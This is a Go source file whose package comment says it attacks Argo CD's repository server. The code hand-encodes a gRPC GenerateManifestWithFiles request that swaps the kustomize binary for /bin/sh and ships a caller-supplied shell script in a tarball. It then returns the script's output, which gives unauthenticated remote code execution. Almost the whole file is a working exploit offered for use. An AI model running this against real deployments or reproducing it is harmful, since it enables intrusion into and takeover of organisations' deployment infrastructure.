// Package reposerver attacks Argo CD's repository server: the server asks for no credentials, and runs a program of the
// caller's choice in place of kustomize.
package reposerver

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"

	"google.golang.org/protobuf/encoding/protowire"
)

// method is GenerateManifestWithFiles of reposerver/repository/repository.proto in Argo CD. In place of a client that is
// generated from it, of which Argo CD has one with all of its own dependencies, the few fields are written here by number.
const method = "/repository.RepoServerService/GenerateManifestWithFiles"

// Run has the repository server behind a URL run a shell script. The script is to print manifests, and the result is what the
// repository server makes of them. The client has to speak HTTP/2.
func Run(ctx context.Context, client *http.Client, url, script string) (string, error) {
	archive, err := tgz(map[string]string{"kustomization.yaml": "resources: []\n", "build": script})
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(archive)
	body := bytes.Buffer{}
	// A ManifestRequestWithFiles is one of a request, the metadata of the files, and a part of the files.
	for _, part := range [][]byte{
		field(1, request()),
		field(2, field(1, []byte(hex.EncodeToString(sum[:])))),
		field(3, field(1, archive)),
	} {
		body.WriteByte(0) // It isn't compressed.
		_ = binary.Write(&body, binary.BigEndian, uint32(len(part)))
		body.Write(part)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url+method, &body)
	if err != nil {
		return "", fmt.Errorf("cannot make request: %w", err)
	}
	req.Header.Set("Content-Type", "application/grpc")
	req.Header.Set("TE", "trailers")
	resp, err := client.Do(req)
	if err != nil {
		return "", fmt.Errorf("cannot call the repository server: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	answer, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", fmt.Errorf("cannot read the answer of the repository server: %w", err)
	}
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/grpc") {
		return "", fmt.Errorf("%s: %.500s", resp.Status, answer)
	}
	return manifests(answer, resp)
}

// request asks for the manifests of an Application of kustomize, whose program is a shell: it is called with "build" and the
// folder of the files.
func request() []byte {
	const repo = "https://git.example.org/x"
	return bytes.Join([][]byte{
		field(1, field(1, []byte(repo))),
		field(2, []byte("HEAD")),
		protowire.AppendVarint(protowire.AppendTag(nil, 3, protowire.VarintType), 1), // Its cache isn't asked.
		field(5, []byte("developer")),
		field(8, []byte("default")),
		field(10, append(field(1, []byte(repo)), field(2, []byte("."))...)),
		field(13, field(2, []byte("/bin/sh"))),
	}, nil)
}

// manifests reads a ManifestResponse, or the error in its place.
func manifests(answer []byte, resp *http.Response) (string, error) {
	const header = 5
	if len(answer) <= header {
		status, text := resp.Trailer.Get("Grpc-Status"), resp.Trailer.Get("Grpc-Message")
		if status == "" {
			status, text = resp.Header.Get("Grpc-Status"), resp.Header.Get("Grpc-Message")
		}
		return "", fmt.Errorf("the repository server answers with status %s: %s", status, text)
	}
	var out []string
	for rest := answer[header:]; len(rest) > 0; {
		number, typ, n := protowire.ConsumeTag(rest)
		if n < 0 {
			return "", protowire.ParseError(n)
		}
		size := protowire.ConsumeFieldValue(number, typ, rest[n:])
		if size < 0 {
			return "", protowire.ParseError(size)
		}
		if number == 1 {
			text, _ := protowire.ConsumeBytes(rest[n:])
			out = append(out, string(text))
		}
		rest = rest[n+size:]
	}
	if len(out) == 0 {
		return "", errors.New("the repository server answers without manifests")
	}
	return strings.Join(out, "\n"), nil
}

func field(number protowire.Number, value []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), value)
}

func tgz(files map[string]string) ([]byte, error) {
	out := &bytes.Buffer{}
	zipped := gzip.NewWriter(out)
	archive := tar.NewWriter(zipped)
	for name, content := range files {
		if err := archive.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(content))}); err != nil {
			return nil, fmt.Errorf("cannot archive %s: %w", name, err)
		}
		if _, err := io.WriteString(archive, content); err != nil {
			return nil, fmt.Errorf("cannot archive %s: %w", name, err)
		}
	}
	err := errors.Join(archive.Close(), zipped.Close())
	return out.Bytes(), err
}
